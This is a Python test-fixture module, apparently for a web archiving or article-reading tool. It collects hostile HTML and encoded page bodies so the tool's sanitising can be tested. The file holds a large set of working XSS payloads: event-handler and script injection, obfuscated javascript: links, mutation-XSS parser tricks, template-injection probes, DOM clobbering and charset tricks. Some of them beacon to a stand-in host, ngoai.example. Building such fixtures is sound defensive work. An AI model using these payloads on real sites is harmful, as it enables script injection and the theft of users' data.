"""What the web might put into an archive against whoever looks at it."""

from __future__ import annotations

from html import escape

OUT = "http://ngoai.example"
RUN = f"document.documentElement.dataset.hit=1;alert(1);new Image().src='{OUT}/hit'"
"""A script that is seen to have run, in whatever document it did."""
QUOTED = escape(RUN)
BODIES = {
    "script": f"<script>{RUN}</script><scr<script>ipt>{RUN}</scr</script>ipt><script src='{OUT}/a.js'></script>",
    "events": (
        f'<img src=x onerror="{RUN}"><details open ontoggle="{RUN}">a</details><input autofocus onfocus="{RUN}">'
        f'<video><source onerror="{RUN}"></video><p onmouseover="{RUN}" style=\'position:fixed;inset:0\'>b</p>'
        f"<body onload=\"{RUN}\"><img/src='x'/onerror='{QUOTED}'>"
    ),
    "links": "".join(
        f'<p><a href="{scheme}{QUOTED}">xem thêm</a></p>'
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            "java&#9;script:",
            "&#1;javascript:",
            " javascript&colon;",
            "vbscript:",
        )
    ),
    "data": f"<a href=\"data:text/html,<script>{QUOTED}</script>\">tệp</a><a href='blob:{OUT}/x'>tệp</a>",
    "svg": (
        f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{QUOTED}"><text y=9>a</text></a>'
        f"<image href='{OUT}/a.png'/><use href='{OUT}/a.svg#b'/>"
        f'<foreignObject><img src=x onerror="{RUN}"></foreignObject>'
        "<animate attributeName=href values='javascript:alert(1)'/></svg>"
    ),
    "parsing": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={QUOTED}&gt;">'
        f'</table></math><noscript><p title="</noscript><img src=x onerror={QUOTED}>"></noscript>'
        f'<svg></p><style><a id="</style><img src=1 onerror={QUOTED}>">'
    ),
    "style": (
        f"<style>@import '{OUT}/a.css'; @font-face {{font-family: f; src: url({OUT}/f.woff)}}"
        f"body {{background: url({OUT}/b.png); font-family: f}} main {{display: none}}</style>"
        f'<p style="background:url({OUT}/c.png);width:expression(alert(1));position:fixed">a</p>'
    ),
    "fetched": (
        f"<link rel=stylesheet href={OUT}/a.css><link rel=prefetch href={OUT}/b>"
        f"<link rel=preload as=image href={OUT}/c><link rel=manifest href={OUT}/d>"
        f"<link rel=icon href={OUT}/e.ico><link rel=modulepreload href={OUT}/f.js>"
    ),
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/'><meta http-equiv=refresh content='0;url=/about'>",
    "policy": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\">"
        "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>"
        f"<script>{RUN}</script>"
    ),
    "base": f"<base href='{OUT}/' target=_top><img src='anh.png'><a href='tin.html'>tin</a>",
    "form": (
        f"<form id=f action='{OUT}/' method=post><input name=a value=b>"
        f"<button formaction='{OUT}/c' autofocus>Gửi</button></form>"
        f"<input form=f type=image src='{OUT}/d.png'><script>document.forms[0].submit()</script>"
    ),
    "frames": (
        f"<iframe src='{OUT}/'></iframe><iframe srcdoc=\"<script>{QUOTED}</script>\"></iframe>"
        f"<object data='{OUT}/a.swf'></object><embed src='{OUT}/b.swf'><iframe src='javascript:{QUOTED}'></iframe>"
        "<object data='/captures/1/content'></object><portal src='/'></portal>"
    ),
    "pictures": (
        f"<img src='{OUT}/a.png'><img srcset='{OUT}/b.png 2x'><picture><source srcset='{OUT}/c.png'><img></picture>"
        f"<video src='{OUT}/d.mp4' poster='{OUT}/e.png' autoplay></video><audio src='{OUT}/f.mp3' autoplay></audio>"
        f"<table background='{OUT}/g.png'><tr><td>a</table><input type=image src='{OUT}/h.png'>"
    ),
    "closing": f"</article></main></body></html></textarea></title></style>--></script><script>{RUN}</script>",
    "template": "<p>{{ 7 * 7 }} {% raw %} {{ site.folder }} ${7*7} {{ ''.__class__.__mro__ }}</p>",
    "lure": f"<a href='{OUT}/' target=_blank rel=opener ping='{OUT}/b' download>a</a><a href='//ngoai.example/'>b</a>",
    "names": "<p id=main name=q class='skip unseen'>giả</p><img name=body><form name=querySelector><input name=id>",
}
"""What an article's HTML might hold, were it not cleaned when it was read; and what captured pages do hold."""
HOSTILE = (
    f'</title></textarea></script>--><script>{RUN}</script><img src=x onerror="{RUN}">\'"><b>{{{{7*7}}}}{{% raw %}}]]>'
)
"""What any text of an article might be."""
ENCODED = {
    "utf-7": ("text/html; charset=utf-7", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-".encode()),
    "utf-7 unsaid": ("text/html", f"+/v8 +ADw-script+AD4-{RUN}+ADw-/script+AD4-".encode()),
    "utf-16": ("text/html; charset=utf-8", b"\xff\xfe" + f"<script>{RUN}</script>".encode("utf-16-le")),
    "invalid": (
        "text/html; charset=utf-8",
        f'<img alt="\xc0" src=x onerror="{RUN}" title="'.encode("latin-1") + b'\xff\xc3">',
    ),
    "escapes": ("text/html; charset=iso-2022-jp", b"\x1b$B<\x1b(B" + f"script>{RUN}</script>".encode()),
    "nul": ("text/html; charset=utf-8", f'<scr\0ipt>{RUN}</scr\0ipt><im\0g src=x onerror="{RUN}"><scri\0pt>'.encode()),
    "two types": ("text/html, text/plain", f"<script>{RUN}</script>".encode()),
    "xhtml": (
        "application/xhtml+xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="{QUOTED}"><script>{RUN}</script>'.encode(),
    ),
    "stylesheet": (
        "text/xml",
        f"<?xml version='1.0'?><?xml-stylesheet href='{OUT}/a.xsl' type='text/xsl'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>".encode(),
    ),
    "svg": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode()),
    "little frames": (
        "text/html",
        b"\xff\xfe" + f"<iFrame src='{OUT}/'><frameset><FRAME src='{OUT}/'>".encode("utf-16-le"),
    ),
    "big frames": ("text/html; charset=utf-16be", f"a<iframe src='{OUT}/'>".encode("utf-16-be")),
    "no type": ("", f"<script>{RUN}</script>".encode()),
    "picture": ("image/png", f"<script>{RUN}</script>".encode()),
    "script": ("text/javascript", RUN.encode()),
    "charset": ('text/html; charset=utf-8"><script>', f"<script>{RUN}</script>".encode()),
}
"""By what is odd about it a captured body, and the type it came as."""
